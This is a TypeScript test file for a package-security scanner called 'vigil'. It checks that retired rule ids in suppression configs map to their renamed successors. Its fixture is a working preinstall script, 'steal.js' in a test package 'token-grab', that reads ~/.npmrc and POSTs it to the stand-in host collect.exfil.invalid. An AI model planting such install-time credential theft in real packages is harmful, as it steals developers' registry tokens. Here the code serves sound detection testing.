/**
 * Retired rule ids in suppressions, through the real CLI: a config written before the content rules
 * became behaviour chains (`content/credential-access`, `content/install-exfiltration`…) keeps
 * suppressing what the successor rules now report, and the output says the rule was renamed.
 * A misspelt rule still exits 2.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../helpers/run-cli.js';
import { startRegistryServer, type RegistryServer } from '../helpers/registry-server.js';
import { publish } from '../helpers/publish.js';

let reg: RegistryServer;
let tmp: string;
let project: string;

/** Install-time .npmrc read sent to a host written into the package: content/secret-exfiltration. */
const STEALER = [
  "const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');",
  "const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request({ hostname: 'collect.exfil.invalid', method: 'POST', path: '/k' }); req.end(npmrc);",
].join('\n');

const vigil = (args: string[]) =>
  runCli([...args, '--registry', reg.url, '--store', join(tmp, 'store.db'), '--no-progress'], { cwd: project, home: tmp });
const config = (suppressions: unknown[]) => writeFileSync(join(project, 'vigil.config.json'), JSON.stringify({ suppressions }));

before(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'vigil-renamed-'));
  reg = await startRegistryServer();
  project = join(tmp, 'app');
  mkdirSync(project);
  await publish(reg, { name: 'token-grab', version: '1.0.0', scripts: { preinstall: 'node steal.js' }, files: { 'steal.js': STEALER } });
  writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'token-grab': '1.0.0' } }));
  writeFileSync(
    join(project, 'package-lock.json'),
    JSON.stringify({
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'token-grab': '1.0.0' } },
        'node_modules/token-grab': { version: '1.0.0', resolved: `${reg.url}token-grab/-/token-grab-1.0.0.tgz` },
      },
    }),
  );
});
after(async () => {
  await reg.close();
  rmSync(tmp, { recursive: true, force: true });
});

interface Json {
  findings: { rule: string; subject: string; suppressed?: unknown }[];
  summary: { suppressed: number };
  suppressions: { unused: unknown[]; renamed?: { rule: string; renamedTo: string[] }[] };
}

describe('suppressions naming retired rule ids (real CLI)', () => {
  test('without a suppression the chain finding fails the scan', async () => {
    config([]);
    const r = await vigil(['scan', '.', '--format', 'json', '--fail-on', 'high']);
    assert.equal(r.code, 1, r.stderr);
    const j = JSON.parse(r.stdout) as Json;
    assert.ok(j.findings.some((f) => f.rule === 'content/secret-exfiltration' && f.subject.includes('token-grab') && !f.suppressed));
  });

  test('a retired id suppresses its successor and the output says it was renamed', async () => {
    config([{ rule: 'content/credential-access', subject: 'token-grab', reason: 'reviewed: test fixture' }]);
    const r = await vigil(['scan', '.', '--format', 'json', '--fail-on', 'high']);
    assert.equal(r.code, 0, r.stderr);
    const j = JSON.parse(r.stdout) as Json;
    const chain = j.findings.find((f) => f.rule === 'content/secret-exfiltration');
    assert.ok(chain?.suppressed, 'the successor finding is suppressed');
    assert.deepEqual(j.suppressions.unused, []);
    assert.deepEqual(
      j.suppressions.renamed?.map((s) => [s.rule, s.renamedTo]),
      [['content/credential-access', ['content/secret-exfiltration']]],
    );
    const text = await vigil(['scan', '.', '--fail-on', 'high']);
    assert.equal(text.code, 0, text.stderr);
    assert.match(
      text.stdout,
      /^renamed rule in suppression: content\/credential-access is now content\/secret-exfiltration \(.*vigil\.config\.json; update the rule id\)$/m,
    );
  });

  test('every retired id is accepted; a misspelt one still exits 2', async () => {
    const retired = [
      'content/install-exfiltration',
      'content/install-download-exec',
      'content/env-exfiltration',
      'content/credential-access',
      'content/encoded-exec',
    ];
    config(retired.map((rule) => ({ rule, subject: 'token-grab', reason: 'old config' })));
    const ok = await vigil(['scan', '.', '--format', 'json', '--offline']);
    assert.notEqual(ok.code, 2, ok.stderr);
    assert.deepEqual(((JSON.parse(ok.stdout) as Json).suppressions.renamed ?? []).map((s) => s.rule).sort(), [...retired].sort());
    config([{ rule: 'content/credential-acces', subject: 'token-grab', reason: 'typo' }]);
    const typo = await vigil(['scan', '.', '--offline']);
    assert.equal(typo.code, 2, typo.stderr);
    assert.match(typo.stderr, /suppressions\[0\]\.rule: unknown rule "content\/credential-acces"/);
  });

  test('vigil rules OLD_ID names the successors and prints them', async () => {
    const r = await vigil(['rules', 'content/install-download-exec']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(
      r.stdout,
      /^content\/install-download-exec was renamed: now content\/remote-code, content\/decoded-exec, content\/reverse-shell/,
    );
    assert.match(r.stdout, /^content\/remote-code {2}\[/m);
    assert.match(r.stdout, /^content\/reverse-shell {2}\[/m);
  });
});
